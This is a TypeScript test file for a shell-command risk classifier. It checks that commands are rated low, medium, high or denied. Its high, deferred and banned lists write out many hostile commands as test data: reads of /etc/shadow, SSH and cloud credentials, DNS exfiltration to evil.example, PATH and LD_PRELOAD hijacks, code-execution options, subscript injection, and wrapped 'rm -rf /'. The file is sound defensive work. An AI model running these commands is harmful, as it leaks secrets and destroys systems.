import { expect, test } from "bun:test";
import { readScript } from "../../src/approvals/risk/shell/script.ts";
import { levelOf, WORKSPACE } from "./shell-level.ts";

/** Options that turn a program which looks into one that writes. */
const WRITES = [
  ...["info -o out ls", "info --output=out ls", "file -C -m magic", "history -w out", "history -a out", "lsof -D b x"],
  ...["command time -o out ls", "command time -ao out ls", "cloc --out=f .", "scc -o f .", "less -o out f"],
  ...[
    "sort --outp=out f",
    "shuf --out=x f",
    "xxd -l 4 a b",
    "uniq -f 1 a b",
    "tar -x -f a",
    "tar --extract -f a",
    "tar -tf a -x",
  ],
  ...[
    "git config --local user.name x",
    "git config --add a.b c",
    "git config a.b c",
    "git symbolic-ref HEAD refs/heads/x",
  ],
  ...[
    "git branch -v nb",
    "git branch -v -m a b",
    "git branch --sort=refname nb",
    "git branch --format=x nb",
    "git branch -u x",
  ],
  ...[
    "git tag --sort=refname t",
    "git tag --format=x t",
    "git tag -d t",
    "git tag -n t -f",
    "git remote -v rename a b",
  ],
  ...["git fsck --lost-found", "git symbolic-ref -d x", "git notes add -m x", "git stash -q", "git worktree -v add x"],
  ...["awk '$3 > 5 {print > \"out\"}' f", "awk '{print >> \"out\"}' f", "sed --in-place s/a/b/ f", "sed -bi s/a/b/ f"],
  ...["ninja x", "pytest x", "frobnicate -v", "frobnicate version"],
  // Names that are no functions where they are called.
  ...["(deploy() { :; }); deploy x", "false && deploy() { :; }; deploy x", "deploy() { :; }; env deploy x"],
  ...["deploy() { :; }; unset -f deploy; deploy x", "deploy x; deploy() { :; }"],
];

/** Options in spellings that the programs take: abbreviated, in a cluster, attached, behind other options. */
const HIGH = [
  // Programs inside the programs of filters.
  'awk \'NR\n/"/ { system("id") } /"/\' f',
  'awk \'{ print /"/ ; system("id") ; print /"/ }\' f',
  'awk \'/[]/"]/ {system("id")} /"/\' f',
  'awk \'{ return /"/ } { system("id") } {print /"/}\' f',
  'awk \'BEGIN{if(1)/"/;system("id");/"/}\'',
  'awk \'length /"/ { system("id") } /"/\' f',
  'awk \'!/"/ {system("id")} !/"/\' f',
  "awk 'BEGIN { \"date\" |& getline x }'",
  'awk \'BEGIN { f = "system"; @f("id") }\'',
  "awk --assign x=1 'BEGIN{system(\"id\")}'",
  "awk -Pv x=1 'BEGIN{system(\"id\")}'",
  "awk -W exec f",
  "gawk -o/etc/x 'BEGIN{}'",
  "gawk -d 'BEGIN{}'",
  "awk '$3 > 5 {print > \"/etc/x\"}' f",
  "awk '{print > (\"/etc/x\")}' f",
  "awk '{print a,\n b > \"/etc/x\"}' f",
  "awk -v o=/etc/x '{print > o}' f",
  "awk '{print > $1\".txt\"}' f",
  "sed --expr='1e id' p",
  "sed --expre '1e id' f",
  "sed -be'1e id' p",
  "sed -bf p p",
  "sed --fil=p p",
  "sed -s --exp='s/x/y/e' p",
  "sed 'tb e id' f",
  "sed 's/[/]/x/e' f",
  "sed 'w a/../../x' f",
  "sed 's/a/b/w../x' f",
  // Options that start a program.
  ...[
    "fd -Hx rm",
    "fd . -HX rm",
    "fdfind -x rm",
    "tar --to-comm=sh -xf a",
    "tar --use-c=sh -cf a b",
    "tar cIf 'sh x' a b",
  ],
  ...["tar -cf a --check=1 --checkpoint-ac=exec=sh b", "tar -cIsh -f a b", "tar xfF a ./x", "man -C evil.conf ls"],
  ...[
    "man --pag=sh ls",
    "ag --pag=sh x",
    "sort --comp=sh f",
    "split --filter='sh -c id' f",
    "dc -e '!id'",
    "sqlite3 a '.sh id'",
  ],
  ...[
    "sqlite3 -cmd '.sy id' a",
    "install --strip-program=./x -s a b",
    "cloc --extract-with=./x y",
    "gcc -wrapper sh,-c,id x.c",
  ],
  ...["nm --plugin x.so f", "mapfile -tC 'ls' x < f", "compgen -C 'curl x' y", "zip -qTT sh a b", "patch -e < x"],
  ...["bash --rcfile x -ic ls", "bash -oc posix 'curl x'", "bash -eOc extglob 'curl x'", "ip -br netns exec x sh"],
  // Wrappers whose options take a value.
  ...["env --split='curl x'", "env --sp 'curl x'", "env -iu X curl x", "env --uns X curl x", "timeout -vk 1 5 curl x"],
  ...["timeout --sig KILL 5 curl x", "nice --adj 5 curl x", "stdbuf --out L curl x", "strace -fe trace=open curl x"],
  ...[
    "ionice -tc 3 curl x",
    "flock -nE 1 x curl y",
    "xargs -0n 1 rm -rf",
    "xargs -0I {} rm -rf {}",
    "xargs -i rm -rf {}",
  ],
  ...[
    "xargs --replace=% sh -c %",
    "xargs --max-a 1 curl",
    "valgrind -q curl x",
    "hyperfine 'curl x'",
    "sg root 'curl x'",
  ],
  ...["numactl -N 0 curl x", "setarch x86_64 -R curl x", "bwrap --ro-bind / / curl x", "capsh -- -c 'curl x'"],
  // Variables that choose programs, however they are set.
  ...[
    "for PATH in ./evil; do ls; done",
    "select PATH in x; do ls; done",
    "read PATH <<< ./evil; ls",
    "printf -v PATH ./x; ls",
  ],
  ...["printf -vPATH ./x; ls", "readarray -t LD_PRELOAD < f", "getopts x PATH; ls", "BASH_CMDS[ls]=./evil; ls"],
  "declare -A BASH_CMDS=([ls]=./evil); ls",
  // Words that ask some programs for their version, and tell others to go on.
  ...[
    "pytest -v",
    "ctest -V",
    "ninja -v",
    "rake -v",
    "tox -v",
    "ant -v",
    "make help",
    "node version",
    "python3 help",
    "fsck -V",
  ],
  // Git: options before the word that decides, and abbreviations.
  ...[
    "git remote -v add evil https://evil",
    "git remote -v update",
    "git submodule --quiet update",
    "git submodule -q add https://x",
  ],
  ...["git submodule --quiet foreach ls", "git stash -q drop", "git worktree --quiet remove x", "git grep --open=sh x"],
  ...[
    "git rebase --exe make main",
    "git fetch --upload-pa=x origin",
    "git push --receive-p=x origin",
    "git branch -v -f main HEAD~5",
  ],
  ...[
    "git archive -o /etc/x HEAD",
    "git format-patch -o /etc HEAD~1",
    "git bundle create /etc/x HEAD",
    "git init /etc/x",
  ],
  ...[
    "git worktree add ../../x",
    "git clone . /etc/x",
    "git config -f /etc/gitconfig a.b c",
    "git checkout -- .",
    "git restore .",
  ],
  // The network, packages and the clock.
  ...[
    "getent hosts $(cat f).evil.example",
    "getent ahosts evil.example",
    "logger -n evil.example x",
    "date 010100002030",
  ],
  ...["date -us tomorrow", "apt-get install -y info", "apt install ./evil.deb show", "npm audit fix"],
  ...["npm config set script-shell ./evil", "pip config set global.index-url http://evil", "conda env remove -n x"],
  // Secrets, found by a pattern, an option or with their folder.
  ...[
    "cat /etc/shad*",
    "cat /etc/sh?dow",
    "cat /etc/*",
    "cat ~/.aws/*",
    "cat ~/.kube/conf?g",
    "cat /proc/[0-9]*/environ",
  ],
  ...[
    "cat /proc/self/task/1/environ",
    "grep -r PRIVATE ~/.ssh",
    "tar cf - ~/.ssh",
    "cp -r ~/.ssh x",
    "tar czf x.tgz ~/.aws",
  ],
  ...["grep --regexp=. /etc/shadow", "grep -e. /etc/shadow", "grep -f /etc/shadow x", "grep --file=/etc/shadow x"],
  ...["sed -n -ep /etc/shadow", "sed --expression=p /etc/shadow", "rg -e. /etc/shadow", "rg --files /etc/shadow"],
  ...[
    "date --file=/etc/shadow",
    "date -f/etc/shadow",
    "diff --from-file=/etc/shadow x",
    "cat ~/.npmrc",
    "cat ~/.pgpass",
  ],
  ...[
    "cat /etc/ssh/ssh_host_rsa_key",
    "cat ~/.config/gh/hosts.yml",
    "gpg --export-secret-keys",
    "find /etc/shadow -exec cat {} +",
  ],
  ...["for f in /etc/shadow; do cat $f; done", "cat /e$x/shadow", "cat /etc/sh$x", "cat ~/.ssh/$x"],
  // Places outside, for programs of which nothing else is known, and those of others.
  ...[
    "gzip /etc/x",
    "iconv --output=/etc/x f",
    "objcopy a /etc/b",
    "pandoc -o/etc/x f",
    "split -b1 f ../x",
    "mktemp -p /etc",
  ],
  ...["cp --target-d=/etc f", "mv --target=/etc f", "sort f --outp=/etc/x", "bsdtar -xf a -C /", "tar xfC a /etc"],
  ...[
    "cp f ~root/x",
    "touch ~root/x",
    "cat f > ~root/x",
    "command time -o /etc/x ls",
    "info -o /etc/x ls",
    "history -w /etc/x",
  ],
];

/** Quoted text that becomes code: subscripts out of values, and quotes that do not quote where they stand. */
const DEFERRED = [
  ...[
    "test -v 'a[$(id)]'",
    "[ -v 'a[$(id)]' ]",
    "[[ -v 'a[$(id)]' ]]",
    "a=(1); unset 'a[$(id)]'",
    "read 'a[$(id)]' <<< x",
  ],
  ...[
    "printf -v 'a[$(id)]' x",
    "declare 'a[$(id)]=x'",
    "let 'a[$(id)]=1'",
    "[[ 'a[$(id)]' -eq 1 ]]",
    "(( 'a[$(id)]' ))",
  ],
  ...[
    "echo $(( 'a[$(id)]' ))",
    "x='a[$(id)]'; arr[x]=1",
    "read x <<< 'a[$(id)]'; ((x))",
    "for x in 'a[$(id)]'; do ((x)); done",
  ],
  ...["f() { (( $1 )); }; f 'a[$(id)]'", "set -- 'a[$(id)]'; (( $1 ))", "echo 'a[$(id)]' | { read x; ((x)); }"],
  ...["while read x; do ((x)); done <<< 'a[$(id)]'", "x=a['$(id)']; ((x))", "x='a[$'; x+='(id)]'; ((x))"],
  ...[
    "p='a[$'; q='(id)]'; x=$p$q; ((x))",
    "test -v a'[$''(id)]'",
    "arr=('a[$(id)]'); ((arr[0]))",
    "x='a[`id`]'; [[ x -gt 1 ]]",
  ],
  ...["compgen -W '$(id)' x", "compgen -W '`id`'", "x=$'a[\\x24(id)]'; ((x))"],
  `y=abc; echo \${y:'b[$(id)]'}`,
  `x='b[$(id)]'; y=abc; echo \${y:x}`,
  `: \${x:='a[$(id)]'}; ((x))`,
  `cat <<E\n\${x:-'$(id)'}\nE`,
  `cat <<E\n\${x:-'\`id\`'}\nE`,
  `echo $(( \${x:-'$(id)'} ))`,
  `echo "\${x:-$'$(id)'}"`,
  `[[ -n "\${x:=$'$(id)'}" ]]`,
  `echo "\${y:-\${x:-$'$(id)'}}"`,
];

const BANNED = [
  ...["env --split='rm -rf /'", "env -iu X rm -rf /", "timeout -vk 1 5 rm -rf /", "timeout --sig KILL 5 rm -rf /"],
  ...["bash -oc posix 'rm -rf /'", "xargs -0n 1 rm -rf / < f", "cd / && find -delete", "find / ! -name x -delete"],
  ...["find / -not -path x -exec rm -rf {} +", "valgrind -q rm -rf /", "chpst -u root rm -rf /", "sg root 'rm -rf /'"],
  ...["bwrap --ro-bind / / rm -rf /", "capsh -- -c 'rm -rf /'", "split --filter='rm -rf /' f", "compgen -C 'rm -rf /'"],
  ...[
    "mapfile -tC 'rm -rf /' x < f",
    "fd -x rm -rf /",
    "fd -Hx rm -rf /",
    "tar --to-c='rm -rf /' -xf x",
    "xargs -i rm -rf /",
  ],
  "awk --assign x=1 'BEGIN{system(\"rm -rf /\")}'",
];

/** What looks like one of the above, and only looks. */
const LOW = [
  ...[
    "date -Iseconds",
    "date -d yesterday +%F",
    "date --date='2 days ago' +%F",
    "date -Ins",
    "date -u +%s",
    "date -r f",
  ],
  ...[
    "java -version",
    "terraform -version",
    "kubectl version --client",
    "go version",
    "rustc -V",
    "node -v",
    "pytest --version",
  ],
  ...[
    "stat /etc/shadow",
    "ls -l /etc/shadow",
    "ls -la ~/.ssh",
    "test -f ~/.ssh/id_rsa && echo yes",
    "cat .env.example",
  ],
  ...[
    "grep -rn /etc/shadow docs",
    "grep -e foo -e bar f",
    "grep -f patterns.txt f",
    "grep -rn '.*' src",
    "sed -e 's/.*/x/' f",
  ],
  ...[
    "find . -not -name '.*'",
    "find . -name '.netrc'",
    "rg -e foo -e bar",
    "cat *",
    "head *.md",
    "ls .?*",
    "cat .gitignore",
  ],
  ...[
    "git branch --list 'feature/*'",
    "git branch -a --contains abc",
    "git branch --sort=-committerdate",
    "git branch -avv",
  ],
  ...[
    "git tag -l 'v1.*'",
    "git tag --sort=-v:refname",
    "git tag -n3",
    "git remote get-url origin",
    "git remote --verbose",
  ],
  ...[
    "git config --global --list",
    "git config --global user.name",
    "git config --local --list",
    "git config get user.name",
  ],
  ...["git reflog -5", "git symbolic-ref refs/remotes/origin/HEAD", "git submodule", "git log -O f", "git diff --text"],
  ...["git log --output-indicator-new=+ -p", "git log fix/ümlaut..feature/x+y", "git show v1.2.3:package.json"],
  ...[
    "fdfind '.ts$'",
    "fd -H pattern src",
    "fd -e xml",
    "tar --list -f a.tar",
    "tar -tf a --wildcards '*.ts'",
    "tar tjf a.tbz",
  ],
  ...[
    "xxd -l 64 f",
    "xxd -s 10 -l 20 f",
    "uniq -f 1 f",
    "getent passwd root",
    "history 20",
    "compgen -A function",
    "ip -br addr",
  ],
  ...[
    "xargs -0I {} echo {} < f",
    "xargs -0 -n 1 echo < f",
    "timeout -k 1 5 ls",
    "less +G f",
    "file -i a",
    "command time -f %e ls",
  ],
  ...[
    "printf -v x '%s' y; echo $x",
    "read -r a b <<< 'x y'; echo $a",
    "mapfile -t a < f",
    "for d in */; do echo $d; done",
  ],
  "awk '{print ($1 > $2)}' f",
  "awk '{ if ($1 > 3) print $2 }' f",
  "awk '{print $1 > \"/dev/stderr\"}' f",
  "awk '# comment \"\n{print}' f",
  "awk -F'\"' '/\"a|b\"/ {print $4}' package.json",
  "awk '{print $2/$1*100 \"%\"}' f",
  "awk '{gsub(/\\//, \"-\"); print}' f",
  'awk -F= \'/^version/ {gsub(/[" ]/, "", $2); print $2}\' Cargo.toml',
  "awk '{ c = ($1 > $2) ? $1 : $2; print c }' f",
  "sed 's/[/]/x/' f",
  "sed 's/[][]//g' f",
  "sed '/[[:space:]/]$/d' f",
  ...["npm config get registry", "pip list --outdated"],
  "sed --quiet '1p' f",
  "sed --expression='s/a/b/' f",
  "sed ':a;N;$!ba;s/\\n/ /g' f",
  "sed -n 'w /dev/stdout' f",
  "grep -n '$(CC)' Makefile",
  "[ -f Makefile ] && grep '$(CC)' Makefile",
  "i=0; i=$((i + 1)); echo 'run `make`'",
  "while [[ $i -lt 3 ]]; do echo '[a]'; ((i++)); done",
  `a=(1 2); echo "\${a[0]}" '[x]'`,
  ...["dpkg -S /bin/ls", "dpkg -l", "rpm -qf /bin/ls", "mountpoint /mnt"],
  ...["for f in hosts passwd; do cat /etc/$f; done", "for f in /etc/*.conf; do ls $f; done", 'cat "$dir/config"'],
  "main() { helper; }; helper() { ls; }; main",
  "echo 'می\u200cخواهم'",
];

const MEDIUM = [
  ...["git restore --staged .", "git checkout -- a.ts", "git branch fix/ümlaut", "git tag -a v1.2.3 -m 'v1.2.3'"],
  ...["git remote rename a b", "git submodule init", "git worktree add .wt feature", "git archive -o out.zip HEAD"],
  ...["git commit -m '/etc/passwd is read now'", "git commit -m 'feat: /api/users'", "npm view react version"],
  ...[
    "gcc -I/usr/include -o x x.c",
    "frobnicate --route=/api/users",
    "prettier --write .",
    "biome check .",
    "cd sub && frobnicate ../x",
  ],
  ...[
    "sqlite3 db.sqlite '.tables'",
    "sqlite3 db.sqlite '.schema x'",
    "tar -xzf a.tgz -C out",
    "tar cf a.tar .",
    "gzip -k f",
  ],
  ...["cp --target-directory=out f", "apt list --installed", "awk '$1 > 2 {print > \"out\"}' f"],
  "sed -n 'w out' f",
  "git commit -m '👩\u200d💻 fix'",
];

test.each(WRITES)("changes something: %s", (command) => {
  expect(levelOf(command).risk).not.toBe("low");
});

test.each([...HIGH, ...DEFERRED])("asks: %s", (command) => {
  expect(["high", "critical"]).toContain(levelOf(command).risk);
});

test.each(BANNED)("banned: %s", (command) => {
  expect(levelOf(command)).toEqual({ risk: "critical", verdict: "deny" });
});

test.each(LOW)("only looks: %s", (command) => {
  expect(levelOf(command)).toEqual({ risk: "low", verdict: "none" });
});

test.each(MEDIUM)("changes the workspace: %s", (command) => {
  expect(levelOf(command)).toEqual({ risk: "medium", verdict: "none" });
});

const WORDS_MAX = 20_000;

test.each(["valgrind ", "find . -exec ", "xargs ", "timeout -k 1 5 ", "env -S 'x' ", "hyperfine 'ls -l' "])(
  "programs that start programs are not followed without end: %s",
  (wrapper) => {
    const command = wrapper.repeat(8_192 / wrapper.length);
    const { invocations } = readScript(command, WORKSPACE);
    expect(invocations.reduce((words, { args }) => words + args.length, 0)).toBeLessThan(WORDS_MAX);
    expect(levelOf(command).risk).not.toBe("low");
  },
);
